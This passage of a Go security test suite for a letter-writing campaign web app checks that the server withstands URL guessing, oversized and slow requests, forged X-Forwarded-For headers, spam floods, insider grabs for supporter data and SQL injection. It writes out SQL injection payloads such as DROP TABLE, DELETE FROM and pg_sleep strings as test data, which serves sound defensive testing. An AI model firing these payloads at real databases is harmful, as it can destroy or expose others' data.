			status, body := rawRequest(t, af.srv.URL, http.MethodGet, r.path, hdr...)
			if status != http.StatusNotFound && status != http.StatusBadRequest {
				t.Errorf("%s: %d, want 404 or 400", r.path, status)
			}
			mustNotContain(t, body, secrets...)
			if strings.HasPrefix(body, "%PDF") || strings.HasPrefix(body, "PK") {
				t.Errorf("%s: served a file", r.path)
			}
		})
	}
	// The same addresses without the tricks serve their files.
	for _, p := range []string{"/static/app.js", "/s/" + token + "/letters.pdf"} {
		if status, _ := rawRequest(t, af.srv.URL, http.MethodGet, p); status != http.StatusOK {
			t.Errorf("%s: %d", p, status)
		}
	}
	if status, _ := rawRequest(t, af.srv.URL, http.MethodGet, "/staff/campaigns/"+slug+"/packets.zip", "Cookie", session); status != http.StatusOK {
		t.Errorf("packets: %d", status)
	}
}

func TestAttackGuessingPDFURLs(t *testing.T) {
	af := newAttackApp(t, "", nil)
	f := af.fixture
	mine := submitToken(t, af, map[string]any{"email": "mine@example.org"})
	theirs := submitToken(t, af, map[string]any{"email": "theirs@example.org"})
	ctx := context.Background()
	sub, err := af.db.Submissions.FindSubmissionByToken(ctx, theirs)
	if err != nil {
		t.Fatal(err)
	}
	theirLetter := itoa(sub.Letters[0].ID)
	mySub, err := af.db.Submissions.FindSubmissionByToken(ctx, mine)
	if err != nil {
		t.Fatal(err)
	}
	myLetter := itoa(mySub.Letters[0].ID)
	unknown := strings.Repeat("a", 26)
	if unknown == mine || unknown == theirs {
		t.Fatal("the unknown token exists")
	}
	// Misses within a group must read the same, so that a guesser learns
	// nothing about what exists: someone else's letter is "no such letter"
	// like a made-up id, and an unknown token is "not valid" like a
	// malformed one.
	const letterMiss, tokenMiss = "letter", "token"
	rows := []struct{ name, group, path string }{
		{"another submission's letter under my token", letterMiss, "/s/" + mine + "/letters/" + theirLetter + "/pdf"},
		{"my letter under their token", letterMiss, "/s/" + theirs + "/letters/" + myLetter + "/pdf"},
		{"a letter id nobody has", letterMiss, "/s/" + mine + "/letters/999999/pdf"},
		{"letter id zero", letterMiss, "/s/" + mine + "/letters/0/pdf"},
		{"negative letter id", letterMiss, "/s/" + mine + "/letters/-1/pdf"},
		{"letter id in hex", letterMiss, "/s/" + mine + "/letters/0x" + myLetter + "/pdf"},
		{"their letter id with a sign", letterMiss, "/s/" + mine + "/letters/+" + theirLetter + "/pdf"},
		{"letter id overflowing int64", letterMiss, "/s/" + mine + "/letters/99999999999999999999/pdf"},
		{"unknown well-formed token", tokenMiss, "/s/" + unknown},
		{"unknown token, all letters", tokenMiss, "/s/" + unknown + "/letters.pdf"},
		{"unknown token, one letter", tokenMiss, "/s/" + unknown + "/letters/" + myLetter + "/pdf"},
		{"short token", tokenMiss, "/s/" + mine[:10]},
		{"token one character short", tokenMiss, "/s/" + mine[:25] + "/letters.pdf"},
		{"token one character long", tokenMiss, "/s/" + mine + "a/letters.pdf"},
		{"token in upper case", tokenMiss, "/s/" + strings.ToUpper(mine)},
		{"token outside the alphabet", tokenMiss, "/s/" + mine[:25] + "1"},
		{"SQL in the token", tokenMiss, "/s/" + url.PathEscape("' OR 1=1 --")},
		{"numeric token", tokenMiss, "/s/1/letters/1/pdf"},
	}
	first := map[string]string{} // group -> the first row's body
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			resp, body := f.get(r.path)
			if resp.StatusCode != http.StatusNotFound {
				t.Fatalf("%s: %d, want 404", r.path, resp.StatusCode)
			}
			if strings.HasPrefix(body, "%PDF") {
				t.Fatal("served a PDF")
			}
			if want, ok := first[r.group]; !ok {
				first[r.group] = body
			} else if body != want {
				t.Errorf("answers differently from the rest of its group:\n%s\n---\n%s", errorText(body), errorText(want))
			}
		})
	}
	// And the real ones still work.
	if resp, _ := f.get("/s/" + mine + "/letters/" + myLetter + "/pdf"); resp.StatusCode != http.StatusOK {
		t.Fatalf("my letter: %d", resp.StatusCode)
	}
}

// errorText is the message of an error page, for failure output.
func errorText(body string) string {
	if m := regexp.MustCompile(`(?s)<main.*</main>`).FindString(body); m != "" {
		return m
	}
	return body
}

func TestAttackOversizedBodies(t *testing.T) {
	const limit = 8 << 10
	af := newAttackApp(t, "", func(o *web.Options) { o.MaxBodyBytes = limit })
	f := af.fixture
	big := strings.Repeat("A", 2*limit)
	form := func() string {
		v := supporterForm("12202", "NY")
		v.Set("_csrf", f.csrf(slug))
		v.Set("personal_message", big)
		return v.Encode()
	}
	multipart := func() string {
		return "--xx\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" + f.csrf(slug) +
			"\r\n--xx\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\n\r\n" + big + "\r\n--xx--\r\n"
	}
	apiBody := func() string { return `{"first_name":"` + big + `"}` }
	rows := []struct {
		name, path, contentType string
		body                    func() string
		// chunked hides the length, so the limit must hold while reading.
		chunked bool
	}{
		{name: "supporter form", path: "/c/" + slug + "/submit", contentType: "application/x-www-form-urlencoded", body: form},
		{name: "supporter form, chunked", path: "/c/" + slug + "/submit", contentType: "application/x-www-form-urlencoded", body: form, chunked: true},
		{name: "multipart upload", path: "/c/" + slug + "/preview", contentType: "multipart/form-data; boundary=xx", body: multipart},
		{name: "multipart upload, chunked", path: "/c/" + slug + "/preview", contentType: "multipart/form-data; boundary=xx", body: multipart, chunked: true},
		{name: "API submission", path: "/api/v1/campaigns/" + slug + "/submissions", contentType: "application/json", body: apiBody},
		{name: "API submission, chunked", path: "/api/v1/campaigns/" + slug + "/submissions", contentType: "application/json", body: apiBody, chunked: true},
		{name: "sign-in", path: "/login", contentType: "application/x-www-form-urlencoded", body: func() string {
			return url.Values{"email": {big}, "password": {big}}.Encode()
		}},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			before := dbState(t, af)
			body := r.body()
			var rd io.Reader = strings.NewReader(body)
			if r.chunked {
				rd = io.MultiReader(rd) // no length known: sent chunked
			}
			req, _ := http.NewRequest(http.MethodPost, f.srv.URL+r.path, rd)
			req.Header.Set("Content-Type", r.contentType)
			resp, err := f.client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusRequestEntityTooLarge {
				t.Errorf("%d, want 413\n%s", resp.StatusCode, errorText(string(b)))
			}
			mustContain(t, string(b), "too large")
			if after := dbState(t, af); after != before {
				t.Errorf("the database changed:\n%s", after)
			}
		})
	}
	t.Run("headers", func(t *testing.T) {
		req, _ := http.NewRequest(http.MethodGet, f.srv.URL+"/c/"+slug, nil)
		for i := range 100 {
			req.Header.Set(fmt.Sprintf("X-Padding-%d", i), strings.Repeat("h", 1000))
		}
		if resp, _ := af.browser().do(req); resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("100 KB of headers: %d, want 431", resp.StatusCode)
		}
	})
	// Just under the limit is fine.
	v := supporterForm("12202", "NY")
	v.Set("_csrf", f.csrf(slug))
	v.Set("personal_message", "Please help.")
	if resp, body := f.postForm("/c/"+slug+"/submit", v); resp.StatusCode != http.StatusOK {
		t.Fatalf("a normal form: %d %s", resp.StatusCode, errorText(body))
	}
}

func TestAttackSlowClients(t *testing.T) {
	// Short limits so that the test need not wait; the deadlines below are
	// many times longer, so a slow machine does not fail it.
	af := newAttackApp(t, "", func(o *web.Options) {
		o.Timeouts = web.Timeouts{ReadHeader: 300 * time.Millisecond, Read: 500 * time.Millisecond}
	})
	u, _ := url.Parse(af.srv.URL)
	body := `{"first_name":"Slow","last_name":"Loris","email":"slow@example.org","address1":"1 Main St","city":"Albany","state":"NY","zip":"12202"}`
	rows := []struct {
		name string
		head string // sent at once
		drip string // then one byte every 50 ms
	}{
		{name: "body trickled after the headers",
			head: "POST /api/v1/campaigns/" + slug + "/submissions HTTP/1.1\r\nHost: " + u.Host + "\r\nContent-Type: application/json\r\nContent-Length: " +
				fmt.Sprint(len(body)) + "\r\n\r\n",
			drip: body},
		{name: "headers trickled",
			head: "GET /c/" + slug + " HTTP/1.1\r\n",
			drip: "Host: " + u.Host + "\r\nX-Slow: " + strings.Repeat("z", 200) + "\r\n\r\n"},
		{name: "form trickled",
			head: "POST /c/" + slug + "/submit HTTP/1.1\r\nHost: " + u.Host + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 500\r\n\r\n",
			drip: strings.Repeat("x", 500)},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			before := dbState(t, af)
			conn, err := net.Dial("tcp", u.Host)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			closed := make(chan struct{})
			go func() {
				_, _ = io.Copy(io.Discard, conn) // returns when the server closes the connection
				close(closed)
			}()
			if _, err := io.WriteString(conn, r.head); err != nil {
				t.Fatal(err)
			}
			giveUp := time.After(15 * time.Second) // the drip alone would take longer
			tick := time.NewTicker(50 * time.Millisecond)
			defer tick.Stop()
			for i := 0; ; i++ {
				select {
				case <-closed:
					if after := dbState(t, af); after != before {
						t.Errorf("the slow request changed the database:\n%s", after)
					}
					return
				case <-giveUp:
					t.Fatalf("the server still holds the connection after %d bytes", i)
				case <-tick.C:
					if i < len(r.drip) {
						_, _ = conn.Write([]byte{r.drip[i]}) // fails once the server has hung up
					}
				}
			}
		})
	}
	t.Run("defaults", func(t *testing.T) {
		srv, err := web.NewServer(web.Options{Pages: templates.Pages(), Static: templates.Static()})
		if err != nil {
			t.Fatal(err)
		}
		hs := srv.HTTPServer()
		if hs.ReadHeaderTimeout <= 0 || hs.ReadTimeout <= 0 || hs.WriteTimeout <= 0 || hs.IdleTimeout <= 0 || hs.MaxHeaderBytes <= 0 ||
			hs.ReadHeaderTimeout > hs.ReadTimeout || hs.Handler == nil {
			t.Fatalf("unsafe defaults: %+v", hs)
		}
	})
}

func TestAttackForwardedFor(t *testing.T) {
	limit := func(trusted ...string) func(*web.Options) {
		return func(o *web.Options) {
			o.SubmitRate = web.RateLimit{PerMinute: 2, Burst: 2}
			o.TrustedProxies = trusted
		}
	}
	rows := []struct {
		name    string
		trusted []string
		xff     func(i int) string // the header on request i
		// refusedFrom is the first request refused (0: none of the five).
		refusedFrom int
	}{
		{name: "no trusted proxy, rotating addresses", xff: func(i int) string { return fmt.Sprintf("203.0.113.%d", i+1) }, refusedFrom: 3},
		{name: "no trusted proxy, rotating chains", xff: func(i int) string { return fmt.Sprintf("198.51.100.%d, 203.0.113.%d", i, i) }, refusedFrom: 3},
		{name: "trusted proxy, one client each", trusted: []string{"127.0.0.1"}, xff: func(i int) string { return fmt.Sprintf("203.0.113.%d", i+1) }},
		{name: "trusted proxy, client forging hops on the left", trusted: []string{"127.0.0.1"},
			xff: func(i int) string { return fmt.Sprintf("10.0.0.%d, 198.51.100.%d, 203.0.113.50", i, i) }, refusedFrom: 3},
		{name: "trusted proxy chain, right-most untrusted counts", trusted: []string{"127.0.0.1", "10.0.0.0/8"},
			xff: func(i int) string { return fmt.Sprintf("198.51.100.%d, 203.0.113.50, 10.1.2.3", i) }, refusedFrom: 3},
		{name: "trusted proxy, garbage in the header", trusted: []string{"127.0.0.1"},
			xff: func(i int) string { return fmt.Sprintf("not-an-address-%d", i) }, refusedFrom: 3},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			af := newAttackApp(t, "", limit(r.trusted...))
			for i := 1; i <= 5; i++ {
				resp, body := submitJSON(t, af, slug, map[string]any{"email": fmt.Sprintf("xff%d@example.org", i)},
					"X-Forwarded-For", r.xff(i))
				refused := r.refusedFrom != 0 && i >= r.refusedFrom
				if refused && resp.StatusCode != http.StatusTooManyRequests {
					t.Fatalf("request %d: %d, want 429", i, resp.StatusCode)
				}
				if !refused && resp.StatusCode != http.StatusAccepted {
					t.Fatalf("request %d: %d %s", i, resp.StatusCode, body)
				}
			}
		})
	}
}

func TestAttackSQLMetacharacters(t *testing.T) {
	payloads := []string{
		`' OR 1=1 --`,
		`'; DROP TABLE submissions; --`,
		`"; DROP TABLE users; --`,
		`1); DELETE FROM campaigns; --`,
		`%' OR '%'='`,
		`\'; SELECT pg_sleep(10); --`,
		"a\x00b",
		`’ OR ’1’=’1`,
		"\xff\xfe",
	}
	for _, db := range []string{"sqlite", "postgres"} {
		t.Run(db, func(t *testing.T) {
			dsn := ""
			if db == "postgres" {
				dsn = apptest.PostgresDSN(t)
			}
			af := newAttackApp(t, dsn, nil)
			f := af.fixture
			ctx := context.Background()
			version, err := af.db.SchemaVersion(ctx)
			if err != nil {
				t.Fatal(err)
			}
			admin := af.signedIn("admin@example.org", app.RoleAdmin, app.RoleOrganizer)
			n := 0
			for _, p := range payloads {
				// Each field of the supporter form, as a browser sends it.
				for _, field := range []string{"prefix", "first_name", "last_name", "email", "address1", "address2", "city", "state", "zip",
					"personal_message", "representative"} {
					n++
					form := supporterForm("12202", "NY")
					form.Set("email", fmt.Sprintf("sql%d@example.org", n))
					form.Set(field, p)
					form.Set("_csrf", f.csrf(slug))
					resp, body := f.postForm("/c/"+slug+"/submit", form)
					switch {
					case resp.StatusCode == http.StatusOK:
						tok := strings.TrimPrefix(af.emailedLink(t, slug, form.Get("email")), "/s/")
						sub, err := af.db.Submissions.FindSubmissionByToken(ctx, tok)
						if err != nil {
							t.Fatal(err)
						}
						stored := map[string]string{"prefix": sub.Supporter.Prefix, "first_name": sub.Supporter.FirstName, "last_name": sub.Supporter.LastName,
							"email": sub.Supporter.Email, "address1": sub.Supporter.Address1, "address2": sub.Supporter.Address2,
							"city": sub.Supporter.City, "personal_message": sub.PersonalMessage}
						if got, ok := stored[field]; !ok || got != p {
							t.Errorf("%s=%q stored as %q", field, p, got)
						}
						if field == "first_name" {
							_, page := f.get("/s/" + tok)
							mustContain(t, page, "Thank you, "+template.HTMLEscapeString(p))
						}
					case resp.StatusCode == http.StatusUnprocessableEntity:
						if !strings.Contains(body, `role="alert"`) {
							t.Errorf("form %s=%q: 422 without a message", field, p)
						}
					default:
						t.Errorf("form %s=%q: %d\n%s", field, p, resp.StatusCode, errorText(body))
					}
					// And the same through the API.
					resp, body = submitJSON(t, af, slug, map[string]any{"email": fmt.Sprintf("api%d@example.org", n), field: p})
					if resp.StatusCode != http.StatusAccepted && resp.StatusCode != http.StatusUnprocessableEntity {
						t.Errorf("API %s=%q: %d %s", field, p, resp.StatusCode, body)
					}
				}
				q := url.QueryEscape(p)
				for _, path := range []string{
					"/api/v1/lookup?zip=" + q, "/api/v1/lookup?zip=12202&state=" + q, "/api/v1/lookup?zip=12202&lat=" + q + "&lon=1",
					"/api/v1/campaigns/" + url.PathEscape(p) + "/targets?zip=12202", "/api/v1/campaigns/" + slug + "/targets?zip=12202&representative=" + q,
					"/c/" + url.PathEscape(p), "/s/" + url.PathEscape(p), "/confirm/" + url.PathEscape(p),
				} {
					if resp, body := f.get(path); resp.StatusCode < 400 || resp.StatusCode >= 500 {
						t.Errorf("GET %s: %d %s", path, resp.StatusCode, errorText(body))
					}
				}
				for _, path := range []string{"/admin/users?q=" + q, "/admin/audit?actor=" + q, "/admin/audit?action=" + q + "&subject=" + q,
					"/organize/campaigns/" + url.PathEscape(p)} {
					if resp, body := admin.get(path); resp.StatusCode >= 500 {
						t.Errorf("GET %s: %d %s", path, resp.StatusCode, errorText(body))
					}
				}
				// The sign-in email: refused like any wrong email.
				b := af.browser()
				resp, body := b.login(p, testPassword)
				if !refusedLogin(resp.StatusCode) || b.cookie("advocate_session") != "" {
					t.Errorf("login %q: %d %s", p, resp.StatusCode, errorText(body))
				}
				resp, body = b.login("admin@example.org' --", p)
				if !refusedLogin(resp.StatusCode) || b.cookie("advocate_session") != "" {
					t.Errorf("login with password %q: %d %s", p, resp.StatusCode, errorText(body))
				}
				// An organizer's campaign title: stored as typed or refused.
				n++
				cslug := fmt.Sprintf("sql-%d", n)
				resp, body = admin.submit("/organize/campaigns/new", "/organize/campaigns", url.Values{
					"title": {p}, "slug": {cslug}, "ask": {p}, "summary": {p}, "retention_days": {"30"},
					"fact_key": {"person"}, "fact_value": {p}})
				switch resp.StatusCode {
				case http.StatusSeeOther:
					c, err := af.db.Campaigns.FindCampaignBySlug(ctx, cslug)
					if err != nil || c.Title != p {
						t.Errorf("campaign title %q stored as %+v (%v)", p, c, err)
					}
				case http.StatusUnprocessableEntity:
				default:
					t.Errorf("campaign title %q: %d %s", p, resp.StatusCode, errorText(body))
				}
			}
			// The database is intact: same schema, the seed campaign, the
			// accounts, and a normal submission still works.
			if v, err := af.db.SchemaVersion(ctx); err != nil || v != version {
				t.Fatalf("schema version %d (%v), was %d", v, err, version)
			}
			seed, err := af.db.Campaigns.FindCampaignBySlug(ctx, slug)
			if err != nil {
				t.Fatalf("seed campaign: %v", err)
			}
			if u, err := af.db.Accounts.FindUserByEmail(ctx, "admin@example.org"); err != nil || !u.Has(app.RoleAdmin) {
				t.Fatalf("admin: %+v %v", u, err)
			}
			counts, err := af.db.Stats.SubmissionCounts(ctx)
			if err != nil || counts[seed.ID] == 0 {
				t.Fatalf("submission counts %v %v", counts, err)
			}
			submitToken(t, af, map[string]any{"email": "after@example.org"})
		})
	}
}

// refusedLogin: a wrong sign-in is 401, or 429 once the address has
// failed too often, or 422 for text no account can have.
func refusedLogin(status int) bool {
	return status == http.StatusUnauthorized || status == http.StatusTooManyRequests || status == http.StatusUnprocessableEntity
}

func TestAttackSpamFloods(t *testing.T) {
	af := newAttackApp(t, "", func(o *web.Options) {
		o.SubmitRate = web.RateLimit{PerMinute: 3, Burst: 3}
		o.TrustedProxies = []string{"127.0.0.1"} // each request may come from its own client
	})
	f := af.fixture
	ctx := context.Background()
	// A second open campaign, so that one address can write to two.
	second := url.Values{"title": {"Free Ana"}, "slug": {"free-ana"}, "ask": {"release Ana"}, "summary": {"Ana is held."},
		"fact_key": {"person"}, "fact_value": {"Ana"}, "retention_days": {"30"}}
	org := af.signedIn("org@example.org", app.RoleOrganizer)
	if resp, body := org.submit("/organize/campaigns/new", "/organize/campaigns", second); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("second campaign: %d %s", resp.StatusCode, errorText(body))
	}
	writeLetters(t, org, "free-ana")
	if resp, body := org.submit("/organize/campaigns/free-ana", "/organize/campaigns/free-ana/open", url.Values{}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("open: %d %s", resp.StatusCode, errorText(body))
	}
	client := 0
	send := func(campaignSlug, email string, extra ...string) int {
		client++
		resp, _ := submitJSON(t, af, campaignSlug, map[string]any{"email": email},
			append([]string{"X-Forwarded-For", fmt.Sprintf("203.0.113.%d", client)}, extra...)...)
		return resp.StatusCode
	}
	submissions := func() int {
		counts, err := af.db.Stats.SubmissionCounts(ctx)
		if err != nil {
			t.Fatal(err)
		}
		total := 0
		for _, n := range counts {
			total += n
		}
		return total
	}

	rows := []struct {
		name string
		run  func(t *testing.T)
	}{
		{name: "honeypot filled: refused as a mistake, nothing stored", run: func(t *testing.T) {
			before := submissions()
			form := supporterForm("12202", "NY")
			form.Set("email", "robot@example.org")
			form.Set("website", "http://spam.example")
			form.Set("_csrf", f.csrf(slug))
			resp, body := f.postForm("/c/"+slug+"/submit", form)
			if resp.StatusCode != http.StatusUnprocessableEntity || submissions() != before {
				t.Fatalf("%d, %d stored", resp.StatusCode, submissions()-before)
			}
			mustContain(t, body, "leave this field empty")
		}},
		{name: "one address, many emails: the per-address limit", run: func(t *testing.T) {
			before := submissions()
			var got []int
			for i := range 5 {
				resp, _ := submitJSON(t, af, slug, map[string]any{"email": fmt.Sprintf("flood%d@example.org", i)}, "X-Forwarded-For", "198.51.100.7")
				got = append(got, resp.StatusCode)
			}
			if fmt.Sprint(got) != "[202 202 202 429 429]" || submissions() != before+3 {
				t.Fatalf("statuses %v, %d stored", got, submissions()-before)
			}
		}},
		{name: "one IPv6 /64, many addresses: one limit", run: func(t *testing.T) {
			before := submissions()
			var got []int
			for i := range 5 {
				resp, _ := submitJSON(t, af, slug, map[string]any{"email": fmt.Sprintf("six%d@example.org", i)},
					"X-Forwarded-For", fmt.Sprintf("2001:db8:77:1:%x::%x", i*4099, i+1))
				got = append(got, resp.StatusCode)
			}
			if fmt.Sprint(got) != "[202 202 202 429 429]" || submissions() != before+3 {
				t.Fatalf("statuses %v, %d stored", got, submissions()-before)
			}
			// The next /64 is someone else.
			resp, _ := submitJSON(t, af, slug, map[string]any{"email": "six-next@example.org"}, "X-Forwarded-For", "2001:db8:77:2::1")
			if resp.StatusCode != http.StatusAccepted {
				t.Fatalf("another /64: %d", resp.StatusCode)
			}
		}},
		{name: "five forged submissions with someone's address do not lock its owner out", run: func(t *testing.T) {
			before := submissions()
			got := []int{
				send(slug, "Jane.Doe@gmail.com"),
				send("free-ana", "jane.doe@gmail.com"),
				send(slug, "janedoe+letters@googlemail.com"),
				send("free-ana", "JANEDOE+x@GMAIL.COM"),
				send(slug, "j.a.n.e.d.o.e@gmail.com"),
				// The owner, after the forger: accepted, and held until the
				// mailbox confirms.
				send("free-ana", "janedoe@gmail.com"),
			}
			// Five count; the owner's waits for confirmation.
			if fmt.Sprint(got) != "[202 202 202 202 202 202]" || submissions() != before+5 {
				t.Fatalf("statuses %v, %d counted", got, submissions()-before)
			}
			link := af.emailedLink(t, "free-ana", "janedoe@gmail.com")
			sub, err := af.db.Submissions.FindSubmissionByToken(ctx, strings.TrimPrefix(link, "/s/"))
			if err != nil {
				t.Fatal(err)
			}
			if sub.Confirmed() || sub.ConfirmToken == "" {
				t.Fatalf("the sixth submission from one mailbox in ten minutes was not held for confirmation: %+v", sub)
			}
			// The owner confirms from their inbox; the letters go.
			resp, body := f.postForm("/confirm/"+sub.ConfirmToken, url.Values{"_csrf": {f.csrf(slug)}})
			if resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("confirm: %d %s", resp.StatusCode, errorText(body))
			}
			if sub, _ = af.db.Submissions.FindSubmissionByToken(ctx, sub.Token); !sub.Confirmed() || submissions() != before+6 {
				t.Fatal("not confirmed")
			}
			// Someone else is not held back by it.
			if got := send(slug, "john.doe@gmail.com"); got != http.StatusAccepted {
				t.Fatalf("another person: %d", got)
			}
		}},
		{name: "the same email again: the same answer, no link, the first submission kept", run: func(t *testing.T) {
			resp, first := submitJSON(t, af, slug, map[string]any{"email": "once@example.org", "first_name": "Olive"},
				"X-Forwarded-For", "203.0.113.201")
			if resp.StatusCode != http.StatusAccepted {
				t.Fatalf("first: %d", resp.StatusCode)
			}
			link := af.emailedLink(t, slug, "once@example.org")
			before := submissions()
			resp, again := submitJSON(t, af, slug, map[string]any{"email": "once@example.org", "first_name": "Mallory"},
				"X-Forwarded-For", "203.0.113.202")
			if resp.StatusCode != http.StatusAccepted || again != first || submissions() != before {
				t.Fatalf("repeat: %d, %d stored\n%s\n%s", resp.StatusCode, submissions()-before, first, again)
			}
			if af.emailedLink(t, slug, "once@example.org") != link {
				t.Fatal("the repeat replaced a confirmed submission")
			}
			// The same through the form, in another case: the "check your
			// email" page, with no link and nothing of Olive.
			form := supporterForm("12202", "NY")
			form.Set("email", "ONCE@example.org")
			form.Set("_csrf", f.csrf(slug))
			resp, body := f.postForm("/c/"+slug+"/submit", form)
			if resp.StatusCode != http.StatusOK || resp.Header.Get("Location") != "" {
				t.Fatalf("form repeat: %d %q", resp.StatusCode, resp.Header.Get("Location"))
			}
			mustContain(t, body, "Check your email", "ONCE@example.org")
			mustNotContain(t, body, link, "Olive", "/s/")
			sub, _ := af.db.Submissions.FindSubmissionByToken(ctx, strings.TrimPrefix(link, "/s/"))
			if sub.Supporter.FirstName != "Olive" {
				t.Fatalf("the first supporter's details changed: %+v", sub.Supporter)
			}
		}},
		{name: "send me my link again: the same page for a known and an unknown address", run: func(t *testing.T) {
			ask := func(email string) (int, string) {
				client++
				req, _ := http.NewRequest(http.MethodPost, f.srv.URL+"/c/"+slug+"/link",
					strings.NewReader(url.Values{"email": {email}, "_csrf": {f.csrf(slug)}}.Encode()))
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				req.Header.Set("X-Forwarded-For", fmt.Sprintf("203.0.113.%d", client))
				resp, err := f.client.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				defer resp.Body.Close()
				b, _ := io.ReadAll(resp.Body)
				return resp.StatusCode, strings.ReplaceAll(string(b), email, "EMAIL")
			}
			code1, known := ask("once@example.org")
			code2, unknown := ask("never-wrote@example.org")
			if code1 != http.StatusOK || code2 != http.StatusOK || stripCSRF(known) != stripCSRF(unknown) {
				t.Fatalf("%d %d: the answers differ", code1, code2)
			}
			mustContain(t, known, "Check your email")
			mustNotContain(t, known, "/s/")
			if code, body := ask("not an address"); code != http.StatusUnprocessableEntity || !strings.Contains(body, "valid email address") {
				t.Fatalf("bad address: %d", code)
			}
		}},
	}
	for _, r := range rows {
		t.Run(r.name, r.run)
	}
}

// stripCSRF blanks the forms' CSRF tokens, so that two answers can be
// compared for everything else.
func stripCSRF(body string) string {
	return regexp.MustCompile(`name="_csrf" value="[^"]*"`).ReplaceAllString(body, `name="_csrf" value=""`)
}

// TestAttackSupportersTrust: the abuse paths an outside review found
// around supporters' personal data. Supporters of a campaign may
// themselves be at risk, so each row is an insider or a crafted request
// trying to reach their names, addresses and emails.
func TestAttackSupportersTrust(t *testing.T) {
	af, _ := fullApp(t)
	ctx := context.Background()
	const victim = "at.risk@example.org"
	submitToken(t, af, map[string]any{"email": victim, "first_name": "Gulnar", "last_name": "Tursun", "address1": "9 Hidden Lane"})
	staff := af.signedIn("staff@example.org", app.RoleStaff)
	holder := af.signedIn("holder@example.org", app.RoleStaff, app.RoleSupporterData)
	adminA := af.signedIn("admin.a@example.org", app.RoleAdmin)
	adminB := af.signedIn("admin.b@example.org", app.RoleAdmin)
	userID := func(email string) string {
		u, err := af.db.Accounts.FindUserByEmail(ctx, email)
		if err != nil {
			t.Fatal(err)
		}
		return itoa(u.ID)
	}
	hasRole := func(email string, r app.Role) bool {
		u, err := af.db.Accounts.FindUserByEmail(ctx, email)
		if err != nil {
			t.Fatal(err)
		}
		return u.Has(r)
	}
	pendingGrant := func(email string) string {
		gs, err := af.auth.RoleGrants(cliCtx, app.RoleGrantFilter{Status: app.GrantPending})
		if err != nil {
			t.Fatal(err)
		}
		for _, g := range gs {
			if g.UserEmail == email {
				return itoa(g.ID)
			}
		}
		t.Fatalf("no pending grant for %s", email)
		return ""
	}
	rows := []struct {
		name string
		run  func(t *testing.T)
	}{
		{name: "plain staff download the office packets (every letter in full)", run: func(t *testing.T) {
			before := len(af.auditActions(app.AuditFilter{Action: "packets.write"}))
			resp, body := staff.get("/staff/campaigns/" + slug + "/packets.zip")
			if resp.StatusCode != http.StatusForbidden || strings.HasPrefix(body, "PK") {
				t.Fatalf("%d", resp.StatusCode)
			}
			if resp, body := holder.get("/staff/campaigns/" + slug + "/packets.zip"); resp.StatusCode != http.StatusOK || !strings.HasPrefix(body, "PK") {
				t.Fatalf("supporter-data: %d", resp.StatusCode)
			}
			if got := len(af.auditActions(app.AuditFilter{Action: "packets.write"})); got != before+1 {
				t.Fatalf("audit events %d, want %d", got, before+1)
			}
		}},
		{name: "plain staff ask the letters exports for names and emails", run: func(t *testing.T) {
			for _, f := range []string{"letters.csv", "letters.json"} {
				p := "/staff/campaigns/" + slug + "/export/" + f
				if resp, body := staff.get(p + "?personal=1"); resp.StatusCode != http.StatusForbidden || strings.Contains(body, victim) {
					t.Errorf("%s?personal=1: %d", f, resp.StatusCode)
				}
				resp, body := staff.get(p)
				if resp.StatusCode != http.StatusOK || strings.Contains(body, victim) || strings.Contains(body, "Tursun") || !strings.Contains(body, "a***@e***.org") {
					t.Errorf("%s: %d, not masked:\n%s", f, resp.StatusCode, body)
				}
			}
			if _, body := staff.get("/staff/campaigns/" + slug + "/letters"); strings.Contains(body, victim) || strings.Contains(body, "Tursun") {
				t.Error("the letters list shows the supporter unmasked")
			}
		}},
		{name: "an admin gives themself the supporter-data role", run: func(t *testing.T) {
			form := url.Values{"name": {"A"}, "roles": {"admin", "supporter-data"}}
			resp, body := adminA.submit("/admin/users/"+userID("admin.a@example.org"), "/admin/users/"+userID("admin.a@example.org"), form)
			if resp.StatusCode != http.StatusSeeOther || hasRole("admin.a@example.org", app.RoleSupporterData) {
				t.Fatalf("%d %s", resp.StatusCode, errorText(body))
			}
			if resp, _ := adminA.get("/staff/supporters?email=" + url.QueryEscape(victim)); resp.StatusCode != http.StatusForbidden {
				t.Fatalf("supporter pages: %d", resp.StatusCode)
			}
			_, page := adminA.get("/admin/users")
			mustContain(t, page, "Waiting for a second administrator", "another administrator approves")
			_, page = adminB.get("/admin/users")
			mustContain(t, page, "/admin/grants/"+pendingGrant("admin.a@example.org")+"/approve")
			_, page = adminB.get("/admin/users/" + userID("admin.a@example.org"))
			mustContain(t, page, "Waiting for a second administrator", "/admin/grants/"+pendingGrant("admin.a@example.org")+"/approve", ">Refuse<")
			_, page = adminA.get("/admin/users/" + userID("admin.a@example.org"))
			mustContain(t, page, "another administrator approves", ">Withdraw<")
			mustNotContain(t, page, "/admin/grants/"+pendingGrant("admin.a@example.org")+"/approve")
		}},
		{name: "the same admin approves their own request", run: func(t *testing.T) {
			id := pendingGrant("admin.a@example.org")
			resp, _ := adminA.submit("/admin/users", "/admin/grants/"+id+"/approve", url.Values{})
			if resp.StatusCode != http.StatusForbidden || hasRole("admin.a@example.org", app.RoleSupporterData) {
				t.Fatalf("%d", resp.StatusCode)
			}
			// A second administrator's approval is what gives it.
			resp, _ = adminB.submit("/admin/users", "/admin/grants/"+id+"/approve", url.Values{})
			if resp.StatusCode != http.StatusSeeOther || !hasRole("admin.a@example.org", app.RoleSupporterData) {
				t.Fatalf("second admin: %d", resp.StatusCode)
			}
			if resp, _ := adminA.get("/staff/supporters?email=" + url.QueryEscape(victim)); resp.StatusCode != http.StatusOK {
